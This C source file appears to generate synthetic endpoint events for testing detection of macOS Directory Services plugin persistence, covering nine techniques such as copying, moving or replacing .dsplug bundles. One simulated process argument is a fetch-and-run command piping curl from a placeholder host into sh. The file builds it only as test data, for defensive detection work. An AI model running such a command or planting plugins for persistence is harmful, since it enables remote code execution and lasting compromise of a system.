#include "detect/techniques.h"

#include <cJSON.h>
#include <string.h>

#include "common/timeutil.h"

#define PLUGINS "/Library/DirectoryServices/PlugIns/"

/* One event: a process start (file NULL) or a file event by that process. */
struct synthetic {
	const char *type, *action;   /* event.type, event.action */
	const char *file, *original; /* file.path, file.Ext.original.path (renames) */
	const char *process, *executable, *parent;
	const char *args[8];
};

struct technique_events {
	struct synthetic ev[8];
};

const struct technique techniques[] = {
    {"plain-file", "plain file named X.dsplug (Elastic's own test)"},
    {"copy-bundle", "bundle copied in with cp -R"},
    {"write-in-place", "bundle written in place by a script"},
    {"move-bundle", "bundle moved in with mv (a rename)"},
    {"installer-package", "installer package unpacks a bundle"},
    {"replace-binary", "binary replaced inside an existing plugin"},
    {"upper-case-suffix", "upper-case suffix X.DSPLUG"},
    {"loader-starts-process", "loaded plugin starts a process"},
    {"copy-then-run", "bundle copied in, then loaded: starts a process"},
};
const size_t ntechniques = sizeof(techniques) / sizeof(techniques[0]);

static const struct technique_events events[] = {
    {{{"start", "exec", NULL, NULL, "bash", "/bin/bash", "zsh", {"bash", "-c", "echo test > " PLUGINS "test.dsplug"}},
      {"creation", "creation", PLUGINS "test.dsplug", NULL, "bash", "/bin/bash", "zsh", {NULL}},
      {"change", "modification", PLUGINS "test.dsplug", NULL, "bash", "/bin/bash", "zsh", {NULL}}}},
    {{{"start", "exec", NULL, NULL, "cp", "/bin/cp", "zsh", {"cp", "-R", "/tmp/Evil.dsplug", PLUGINS}},
      {"creation", "creation", PLUGINS "Evil.dsplug/Contents/Info.plist", NULL, "cp", "/bin/cp", "zsh", {NULL}},
      {"change", "modification", PLUGINS "Evil.dsplug/Contents/Info.plist", NULL, "cp", "/bin/cp", "zsh", {NULL}},
      {"creation", "creation", PLUGINS "Evil.dsplug/Contents/MacOS/Evil", NULL, "cp", "/bin/cp", "zsh", {NULL}},
      {"change", "modification", PLUGINS "Evil.dsplug/Contents/MacOS/Evil", NULL, "cp", "/bin/cp", "zsh", {NULL}}}},
    {{{"start", "exec", NULL, NULL, "python3", "/usr/bin/python3", "zsh", {"python3", "/tmp/drop.py"}},
      {"creation",
       "creation",
       PLUGINS "Evil.dsplug/Contents/MacOS/Evil",
       NULL,
       "python3",
       "/usr/bin/python3",
       "zsh",
       {NULL}},
      {"change",
       "modification",
       PLUGINS "Evil.dsplug/Contents/MacOS/Evil",
       NULL,
       "python3",
       "/usr/bin/python3",
       "zsh",
       {NULL}}}},
    {{{"start", "exec", NULL, NULL, "mv", "/bin/mv", "zsh", {"mv", "/tmp/Evil.dsplug", PLUGINS}},
      {"change", "rename", PLUGINS "Evil.dsplug", "/tmp/Evil.dsplug", "mv", "/bin/mv", "zsh", {NULL}}}},
    {{{"start",
       "exec",
       NULL,
       NULL,
       "installer",
       "/usr/sbin/installer",
       "sudo",
       {"installer", "-pkg", "/tmp/Evil.pkg", "-target", "/"}},
      {"creation",
       "creation",
       PLUGINS "Evil.dsplug/Contents/MacOS/Evil",
       NULL,
       "system_installd",
       "/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/Resources/system_installd",
       "launchd",
       {NULL}},
      {"change",
       "modification",
       PLUGINS "Evil.dsplug/Contents/MacOS/Evil",
       NULL,
       "system_installd",
       "/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/Resources/system_installd",
       "launchd",
       {NULL}}}},
    {{{"start",
       "exec",
       NULL,
       NULL,
       "cp",
       "/bin/cp",
       "zsh",
       {"cp", "/tmp/payload", PLUGINS "NiPlugin.dsplug/Contents/MacOS/NiPlugin"}},
      {"change",
       "modification",
       PLUGINS "NiPlugin.dsplug/Contents/MacOS/NiPlugin",
       NULL,
       "cp",
       "/bin/cp",
       "zsh",
       {NULL}}}},
    {{{"start", "exec", NULL, NULL, "cp", "/bin/cp", "zsh", {"cp", "/tmp/payload", PLUGINS "test.DSPLUG"}},
      {"creation", "creation", PLUGINS "test.DSPLUG", NULL, "cp", "/bin/cp", "zsh", {NULL}},
      {"change", "modification", PLUGINS "test.DSPLUG", NULL, "cp", "/bin/cp", "zsh", {NULL}}}},
    {{{"start",
       "exec",
       NULL,
       NULL,
       "sh",
       "/bin/sh",
       "dspluginhelperd",
       {"sh", "-c", "curl -s https://example.invalid/x | sh"}}}},
    {{{"start", "exec", NULL, NULL, "cp", "/bin/cp", "zsh", {"cp", "-R", "/tmp/Evil.dsplug", PLUGINS}},
      {"creation", "creation", PLUGINS "Evil.dsplug/Contents/MacOS/Evil", NULL, "cp", "/bin/cp", "zsh", {NULL}},
      {"change", "modification", PLUGINS "Evil.dsplug/Contents/MacOS/Evil", NULL, "cp", "/bin/cp", "zsh", {NULL}},
      {"start", "exec", NULL, NULL, "sh", "/bin/sh", "dspluginhelperd", {"sh", "-c", "id"}}}},
};

static void add_time(cJSON *obj, const char *key, int64_t us)
{
	char t[TIME_ISO_LEN];
	time_format_iso8601(us, t);
	cJSON_AddStringToObject(obj, key, t);
}

static const char *base_name(const char *path)
{
	const char *slash = strrchr(path, '/');
	return slash ? slash + 1 : path;
}

static cJSON *synthetic_event(const struct synthetic *s, const char *host, int64_t at, int serial)
{
	cJSON *ev = cJSON_CreateObject();
	add_time(ev, "@timestamp", at);
	int is_file = s->file != NULL;
	cJSON *event = cJSON_AddObjectToObject(ev, "event");
	cJSON_AddItemToObject(event, "category",
	                      cJSON_CreateStringArray((const char *[]){is_file ? "file" : "process"}, 1));
	cJSON_AddItemToObject(event, "type", cJSON_CreateStringArray(&s->type, 1));
	cJSON_AddStringToObject(event, "action", s->action);
	cJSON_AddStringToObject(event, "kind", "event");
	cJSON_AddStringToObject(event, "dataset", is_file ? "endpoint.events.file" : "endpoint.events.process");
	char id[64];
	snprintf(id, sizeof(id), "casebook-coverage-%s-%d", host, serial);
	cJSON_AddStringToObject(event, "id", id);
	add_time(event, "ingested", at + 2000000);
	cJSON *h = cJSON_AddObjectToObject(ev, "host");
	cJSON_AddStringToObject(h, "name", host);
	cJSON_AddStringToObject(h, "id", host);
	cJSON *os = cJSON_AddObjectToObject(h, "os");
	cJSON_AddStringToObject(os, "type", "macos");
	cJSON_AddStringToObject(os, "family", "macos");
	cJSON_AddStringToObject(os, "name", "macOS");
	cJSON *p = cJSON_AddObjectToObject(ev, "process");
	cJSON_AddStringToObject(p, "name", s->process);
	cJSON_AddStringToObject(p, "executable", s->executable);
	cJSON_AddNumberToObject(p, "pid", 500 + serial);
	cJSON *parent = cJSON_AddObjectToObject(p, "parent");
	cJSON_AddStringToObject(parent, "name", s->parent);
	if (!strcmp(s->parent, "dspluginhelperd"))
		cJSON_AddStringToObject(parent, "executable", "/usr/libexec/dspluginhelperd");
	if (!is_file) {
		size_t n = 0;
		while (n < 8 && s->args[n])
			n++;
		cJSON_AddItemToObject(p, "args", cJSON_CreateStringArray(s->args, (int)n));
		cJSON_AddNumberToObject(p, "args_count", (double)n);
	} else {
		cJSON *f = cJSON_AddObjectToObject(ev, "file");
		cJSON_AddStringToObject(f, "path", s->file);
		cJSON_AddStringToObject(f, "name", base_name(s->file));
		if (s->original)
			cJSON_AddStringToObject(cJSON_AddObjectToObject(cJSON_AddObjectToObject(f, "Ext"), "original"),
			                        "path", s->original);
	}
	cJSON_AddStringToObject(cJSON_AddObjectToObject(ev, "user"), "name", "root");
	cJSON_AddStringToObject(cJSON_AddObjectToObject(ev, "agent"), "type", "endpoint");
	return ev;
}

void technique_events(size_t t, int64_t base_us, struct strbuf *out)
{
	const struct technique_events *te = &events[t];
	for (int i = 0; i < 8 && te->ev[i].type; i++) {
		cJSON *ev = synthetic_event(&te->ev[i], techniques[t].id, base_us + (int64_t)i * 1000000, i);
		char *text = cJSON_PrintUnformatted(ev);
		strbuf_addstr(out, text);
		strbuf_addch(out, '\n');
		cJSON_free(text);
		cJSON_Delete(ev);
	}
}
